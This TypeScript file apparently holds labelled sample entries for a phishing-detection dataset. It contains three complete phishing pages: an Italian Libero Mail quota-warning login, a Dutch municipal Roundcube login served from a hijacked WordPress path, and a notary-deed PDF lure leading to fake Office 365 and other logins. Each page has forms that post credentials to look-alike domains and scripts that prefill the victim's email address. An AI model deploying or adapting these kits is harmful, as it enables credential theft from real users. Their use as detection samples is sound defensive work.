import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { articleCss, b64, bankOptions, cardCss, cardJs, cookieBar, digits, doc, esc, hex, mark } from '../parts/yg-kit.js';

export const entries: Entry[] = [
{
  id: 'yg-libero-mail-casella-piena',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://login-libero.mail-upgrade.it.com/login.phtml?service_id=beta_email',
  body: doc({
    lang: 'it',
    title: 'Libero Mail - Accedi',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#fff;color:#333}
.t{height:60px;border-bottom:1px solid #e5e5e5;display:flex;align-items:center;padding:0 30px}.t b{color:#0096d6;font-size:28px;font-style:italic}
.g{display:flex;max-width:960px;margin:40px auto;gap:40px}.ad{flex:1;background:#eaf6fc;border-radius:8px;padding:30px}
.f{width:360px}.q{background:#fdecec;border:1px solid #f3b0b0;color:#b00;padding:10px;font-size:13px;margin-bottom:12px}
.q .bar{height:8px;background:#eee;margin-top:6px}.q .bar i{display:block;height:8px;width:98%;background:#d33}
input{width:100%;padding:12px;border:1px solid #ccc;border-radius:4px;box-sizing:border-box;margin:6px 0 12px;font-size:15px}
button{width:100%;padding:13px;background:#0096d6;border:0;color:#fff;border-radius:22px;font-size:15px;font-weight:bold}`,
    body: `<div class="t"><b>Libero</b>&nbsp;Mail</div>
<div class="g"><div class="ad"><h2>Libero Mail Plus</h2><p>Casella da 5 GB, PEC inclusa e niente pubblicità.</p></div>
<div class="f"><div class="q">La tua casella ha raggiunto il 98% dello spazio disponibile. I nuovi messaggi verranno rifiutati. Accedi per attivare gratuitamente lo spazio aggiuntivo.<div class="bar"><i></i></div></div>
<h2>Accedi</h2>
<form method="post" action="https://login-libero.mail-upgrade.it.com/next.php">
<input type="email" name="LOGINID" id="em" placeholder="Email" required>
<input type="password" name="PASSWORD" placeholder="Password" required>
<input type="hidden" name="ref" value="quota">
<button>Accedi e aumenta spazio</button></form>
<p style="font-size:12px"><a href="#">Password dimenticata?</a></p></div></div>
<script>var h=location.hash.slice(1);if(h){try{document.getElementById('em').value=atob(h)}catch(e){document.getElementById('em').value=h}}</script>`,
  }),
},
{
  id: 'yg-roundcube-gemeente-medewerker',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://www.bakkerijvanderlinden.nl/wp-includes/css/rc/?_task=login&user=p.jansen@gemeente-zaanstad.nl',
  body: doc({
    lang: 'nl',
    title: 'Gemeente Zaanstad :: Welkom bij Webmail',
    css: `body{margin:0;background:#f4f4f4;font-family:'Open Sans',Arial,sans-serif;font-size:14px}
#login-form{width:380px;margin:110px auto;background:#fff;border:1px solid #ddd;border-radius:4px;padding:30px 34px;box-shadow:0 2px 8px rgba(0,0,0,.05)}
#logo{display:block;margin:0 auto 20px;text-align:center;font-size:22px;color:#37beff;font-weight:700}
table{width:100%}td.title{width:90px;color:#555}input{width:100%;padding:8px;border:1px solid #bbb;border-radius:3px;box-sizing:border-box}
.mainaction{display:block;margin:18px auto 0;background:#37beff;border:0;color:#fff;padding:9px 30px;border-radius:3px;font-weight:600}
#message{background:#fef893;border:1px solid #e6d600;padding:8px;margin-bottom:12px;font-size:13px}`,
    body: `<div id="login-form"><div id="logo">Gemeente Zaanstad<br><small style="font-size:12px;color:#888">Roundcube Webmail</small></div>
<div id="message">Uw sessie is verlopen. Meld u opnieuw aan om de gedeelde bijlage te openen.</div>
<form name="form" method="post" action="post.php"><input type="hidden" name="_token" value="${hex('rc-tok', 32)}"><input type="hidden" name="_task" value="login">
<table><tr><td class="title"><label for="rcmloginuser">Gebruikersnaam</label></td><td><input name="_user" id="rcmloginuser" required></td></tr><tr><td class="title"><label for="rcmloginpwd">Wachtwoord</label></td><td><input name="_pass" id="rcmloginpwd" type="password" required></td></tr></table>
<button type="submit" class="mainaction">Inloggen</button></form></div>
<script>var u=new URLSearchParams(location.search).get('user');if(u)document.getElementById('rcmloginuser').value=u;</script>`,
  }),
},
{
  id: 'yg-secure-pdf-lure-linking-on',
  label: 'phishing',
  kind: 'document-lure',
  url: 'https://notaris-vandijk.documenten-delen.com/view/' + hex('lure', 10),
  body: doc({
    lang: 'nl',
    title: 'Beveiligd document - Notariskantoor Van Dijk',
    css: `body{margin:0;background:#e9ecef;font-family:Segoe UI,Arial,sans-serif}
.pdf{max-width:620px;margin:40px auto;background:#fff;box-shadow:0 4px 20px rgba(0,0,0,.15);position:relative;height:640px;overflow:hidden}
.pdf .blur{filter:blur(5px);padding:40px;color:#333;line-height:1.8}
.ov{position:absolute;inset:0;display:flex;align-items:center;justify-content:center;background:rgba(255,255,255,.35)}
.m{background:#fff;padding:26px 30px;border-radius:8px;box-shadow:0 4px 24px rgba(0,0,0,.2);text-align:center;max-width:360px}
.m a{display:block;margin:10px 0;padding:11px;border-radius:4px;color:#fff;text-decoration:none;font-weight:600}`,
    body: `<div class="pdf"><div class="blur"><h2>AKTE VAN LEVERING</h2><p>Heden, ${new Date(2025, 9, 7).toLocaleDateString('nl-NL')}, verschenen voor mij, mr. Hendrik van Dijk, notaris gevestigd te Utrecht: 1. de heer ... 2. mevrouw ... De verkoper verklaart bij deze te leveren aan koper, die bij deze in eigendom aanvaardt ... registergoed ... kadastraal bekend gemeente Utrecht, sectie K nummer 4412 ...</p><p>Koopprijs: € 415.000,00 ... waarborgsom ... bankgarantie ...</p></div>
<div class="ov"><div class="m">📄<h3>Akte_levering_concept.pdf</h3><p style="font-size:14px;color:#555">Dit document is beveiligd. Meld u aan met uw e-mailprovider om het te bekijken.</p>
<a style="background:#0078d4" href="https://login.docs-viewer-secure.com/o365/?doc=akte">Outlook / Office 365</a>
<a style="background:#00c300" href="https://login.docs-viewer-secure.com/kpn/?doc=akte">KPN Mail</a>
<a style="background:#6001d2" href="https://login.docs-viewer-secure.com/yahoo/?doc=akte">Yahoo</a>
<a style="background:#555" href="https://login.docs-viewer-secure.com/other/?doc=akte">Andere e-mail</a></div></div></div>`,
  }),
  routes: {
    'login.docs-viewer-secure.com/o365/': htmlRoute(doc({ lang: 'nl', title: 'Aanmelden bij uw account', css: cardCss('#0067b8', '#f2f2f2'), body: `<div class="wrap"><div class="card"><h1>Aanmelden</h1><form method="post" action="/o365/p.php"><label>E-mail</label><input type="email" name="login" required><label>Wachtwoord</label><input type="password" name="passwd" required><button class="btn">Aanmelden</button></form></div></div>` })),
  },
},
];
